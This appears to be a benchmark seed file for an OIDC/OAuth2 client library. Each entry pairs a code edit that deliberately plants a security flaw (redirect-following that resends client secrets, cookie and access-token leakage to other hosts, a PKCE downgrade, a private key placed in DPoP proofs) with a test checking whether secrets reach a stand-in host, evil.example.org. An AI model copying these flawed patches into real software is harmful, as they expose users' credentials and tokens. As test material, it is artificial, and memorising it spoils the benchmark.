"""C30"""
TWO = '''
from op import *
import requests
w = World().__enter__()
o = OP(w, 0)
EVIL = []

def evil(req):
    EVIL.append(req)
    return response(200, {"email": "from@source", "access_token": "x", "token_type": "Bearer", "sub": "u1"})

w.serve("evil.example.org", evil)

def sent():
    return " ".join("%s %s %s" % (r.url, r.body, dict(r.headers)) for r in EVIL)

def begin(h, name="p"):
    b = h.begin(name)
    lg, r = o.authorize(b["url"])
    return b["state"], lg, r

'''
SEEDS = [
 dict(id="C30-redirects-followed", property="C30",
      needs="arguments for the HTTP client in the configuration, and a token endpoint that redirects",
      breaks="a redirected request is sent again, with code and client secret, to wherever the redirect points",
      edits=[("http.py", """        self.request_args = {"allow_redirects": False}
        if httpc_params:
            self.request_args.update(httpc_params)
""", """        # What's used unless something else is configured
        self.request_args = dict(httpc_params or {"allow_redirects": False})
""")],
      demo=TWO + '''
conf = client_conf(o)
conf["behaviour"]["token_endpoint_auth_method"] = "client_secret_post"
h = handler({"p": conf}, httpc_params={"verify": False})
state, lg, r = begin(h)
o.token_hook = lambda req: response(307, "", headers={"location": "https://evil.example.org/t"})
try:
    h.finalize(o.issuer, r)
except Exception:
    pass
assert lg.code not in sent(), sent()
assert o.secret not in sent(), sent()
'''),
 dict(id="C30-cookies-sent", property="C30",
      needs="a provider that sets a cookie, and a request by the same HTTP client to another host",
      breaks="cookies of one host are sent to all",
      edits=[("http.py", """        self.add_cookies(kwargs)
""", """        self.add_cookies(_kwargs)
""")],
      demo=TWO + '''
conf = client_conf(o)
h = handler({"p": conf})
state, lg, r = begin(h)
orig = o.token

def token(req):
    res = orig(req)
    res.headers["set-cookie"] = "sess=very-secret; Path=/"
    return res

o.token_hook = token
o.userinfo_hook = lambda req: response(200, {"sub": lg.sub, "_claim_names": {"email": "s"}, "_claim_sources": {"s": {"endpoint": "https://evil.example.org/c"}}})
h.finalize(o.issuer, r)
c = h.issuer2rp[o.issuer]
c.fetch_distributed_claims(h.get_user_info(state))
assert EVIL
assert "very-secret" not in sent(), sent()
'''),
 dict(id="C30-claims-own-token", property="C30",
      needs="a source of distributed claims without a token of its own",
      breaks="the access token for the provider is sent to the claims source",
      edits=[("oidc/userinfo.py", """                    _info = {
                        "headers": self.get_authn_header(
                            {}, self.default_authn_method,
                            authn_endpoint=self.endpoint_name,
                            key=kwargs["state"]
                        ),
                        "url": spec["endpoint"]
                    }
""", """                    if "access_token" not in spec:
                        _headers = self.get_authn_header(
                            {}, self.default_authn_method,
                            authn_endpoint=self.endpoint_name,
                            key=kwargs["state"]
                        )
                        if "Authorization" in _headers:
                            spec["access_token"] = _headers["Authorization"].split(" ")[1]
""")],
      demo=TWO + '''
h = handler({"p": client_conf(o)})
state, lg, r = begin(h)
h.finalize(o.issuer, r)
o.userinfo_hook = lambda req: response(200, {"sub": lg.sub, "_claim_names": {"email": "s"}, "_claim_sources": {"s": {"endpoint": "https://evil.example.org/c"}}})
c = h.issuer2rp[o.issuer]
c.fetch_distributed_claims(h.get_user_info(state))
assert EVIL
assert not [t for t in lg.ats if t in sent()], sent()
'''),
 dict(id="C30-source-token-kept", property="C30",
      needs="two sources of distributed claims, the first with a token, the second without",
      breaks="the token for one source is sent to the next one",
      edits=[("oidc/__init__.py", """            for csrc, spec in _csrc.items():
                if "endpoint" in spec:
                    if "access_token" in spec:
""", """            httpc_params = {}
            for csrc, spec in _csrc.items():
                if "endpoint" in spec:
                    if "access_token" in spec:
"""), ("oidc/__init__.py", """                            _resp = self.http.send(spec["endpoint"], 'GET')
""", """                            _resp = self.http.send(spec["endpoint"], 'GET', **httpc_params)
""")],
      demo=TWO + '''
h = handler({"p": client_conf(o)})
state, lg, r = begin(h)
h.finalize(o.issuer, r)
o.userinfo_hook = lambda req: response(200, {"sub": lg.sub, "_claim_names": {"a": "s", "email": "t"}, "_claim_sources": {"s": {"endpoint": "https://src.example.org/c", "access_token": "for-src"}, "t": {"endpoint": "https://evil.example.org/c"}}})
w.serve("src.example.org", lambda req: response(200, {"a": "b"}))
c = h.issuer2rp[o.issuer]
ui = c.fetch_distributed_claims(h.get_user_info(state))
assert EVIL and ui["a"] == "b"
assert "for-src" not in sent(), sent()
'''),
 dict(id="C30-moved-permanently", property="C30",
      needs="an endpoint that answers with 301 or 308",
      breaks="the access token is sent to where the provider says it has moved",
      edits=[("oauth2/__init__.py", """        if 300 <= resp.status_code < 400:
            return {'http_response': resp}
""", """        if resp.status_code in [301, 308] and method == 'GET' and 'location' in resp.headers:
            # Has moved permanently
            resp = self.http(resp.headers['location'], method, headers=headers)

        if resp.status_code in range(300, 400):
            return {'http_response': resp}
""")],
      demo=TWO + '''
h = handler({"p": client_conf(o)})
state, lg, r = begin(h)
h.finalize(o.issuer, r)
o.userinfo_hook = lambda req: response(308, "", headers={"location": "https://evil.example.org/u"})
try:
    h.get_user_info(state)
except Exception:
    pass
assert not [t for t in lg.ats if t in sent()], sent()
'''),
 dict(id="C30-pkce-downgrade", property="C30",
      needs="PKCE with S256 and a provider that says it only supports plain",
      breaks="the verifier is in the authorization request",
      edits=[("oauth2/add_on/pkce.py", """    try:
        _method = _kwargs['code_challenge_method']
    except KeyError:
        _method = 'S256'
""", """    try:
        _method = _kwargs['code_challenge_method']
    except KeyError:
        _method = 'S256'

    # Use something the provider understands
    _supported = _context.provider_info.get('code_challenge_methods_supported')
    if _supported and _method not in _supported:
        _method = _supported[0]
"""), ("oauth2/add_on/pkce.py", """        _hash_method = CC_METHOD[_method]
        # Use it on the code_verifier
        _hv = _hash_method(_cv).digest()
        # base64 encode the hash value
        code_challenge = b64e(_hv).decode('ascii')
""", """        if _method == 'plain':
            code_challenge = code_verifier
        else:
            # Use it on the code_verifier
            _hv = CC_METHOD[_method](_cv).digest()
            # base64 encode the hash value
            code_challenge = b64e(_hv).decode('ascii')
""")],
      demo=TWO + '''
o.meta["code_challenge_methods_supported"] = ["plain"]
conf = client_conf(o)
conf["add_ons"] = json.loads(json.dumps(PKCE))
h = handler({"p": conf})
b = h.begin("p")
lg, r = o.authorize(b["url"])
h.finalize(o.issuer, r)
verifier = [x.form for x in w.log if x.path.endswith("/token")][0]
verifier = dict(verifier)["code_verifier"]
assert verifier not in b["url"], b["url"]
'''),
 dict(id="C30-proof-private", property="C30",
      needs="DPoP",
      breaks="the proof has the private key in it",
      edits=[("oauth2/add_on/dpop.py", """        "jwk": dpop_key.serialize(),
""", """        "jwk": dpop_key.to_dict(),
""")],
      demo=TWO + '''
import base64
o.meta["dpop_signing_alg_values_supported"] = ["ES256"]
conf = client_conf(o)
conf["add_ons"] = {"dpop": {"function": "oidcrp.oauth2.add_on.dpop.add_support", "kwargs": {"signing_algorithms": ["ES256"]}}}
h = handler({"p": conf})
state, lg, r = begin(h)
h.finalize(o.issuer, r)
proofs = [x.headers["dpop"] for x in w.log if "dpop" in x.headers]
assert proofs
for p in proofs:
    head = json.loads(base64.urlsafe_b64decode(p.split(".")[0] + "=="))
    assert "d" not in head["jwk"], head
'''),
]
